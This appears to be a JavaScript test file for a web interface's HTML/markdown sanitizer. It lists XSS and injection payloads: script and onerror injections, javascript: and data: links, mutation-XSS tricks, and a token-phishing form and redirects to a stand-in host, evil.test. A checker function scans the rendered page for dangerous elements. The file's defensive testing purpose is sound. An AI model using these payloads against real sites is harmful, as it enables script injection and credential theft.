// What an attacker would write, and what must not come of it.
import { equal } from "./browser.mjs";

export const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert%281%29)",
  "[click](java&#10;script:alert(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](vbscript:msgbox(1))",
  "![picture](https://evil.test/track.png)",
  "![picture](javascript:alert(1))",
  "![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
  '![a](x "onerror=alert(1)")',
  '[a](https://ok.test/"onmouseover="alert(1))',
  "<a href='https://ok.test' style='position:fixed;inset:0' class='primary' id='app'>cover</a>",
  "<form action='https://evil.test'><input name=token><button>Sign in</button></form>",
  "<base href='https://evil.test/'><meta http-equiv=refresh content='0;url=https://evil.test'>",
  "<link rel=stylesheet href='https://evil.test/x.css'><style>body{display:none}</style>",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "<div id='prompt'><button>Allow</button></div>",
  '<https://evil.test/"onclick=alert(1)>',
];

/** Nothing has run (the browser reports that), and nothing is there that could. */
export async function harmless(page) {
  const found = await page.evaluate(() => {
    const bad = [...document.querySelectorAll("#app *")].filter((element) => {
      if (/^(script|iframe|object|embed|base|meta|link|style|math)$/i.test(element.localName)) return true;
      if ([...element.attributes].some(({ name }) => /^on/i.test(name))) return true;
      const inside = element.closest(".prose, .code code");
      if (
        inside &&
        (element.id ||
          element.hasAttribute("style") ||
          /^(form|input|button|select|textarea|svg)$/.test(element.localName))
      )
        return true;
      if (
        inside &&
        element !== inside &&
        [...element.classList].some((name) => !/^(prose|hljs|code|quiet|small|icon)|_$/.test(name))
      )
        return !element.closest("figcaption") && element.localName !== "figure";
      if (
        element.localName === "img" &&
        !/^(data:image\/(png|jpeg|gif|webp);|console\/|blob:)/.test(element.getAttribute("src"))
      )
        return true;
      return (
        element.localName === "a" &&
        element.hasAttribute("href") &&
        !/^(https?:|mailto:|#\/)/.test(element.getAttribute("href"))
      );
    });
    return bad.map((element) => element.outerHTML.slice(0, 200));
  });
  equal(
    found.filter((html) => !/^<(button|svg)/.test(html)),
    [],
    "elements that could do harm",
  );
}
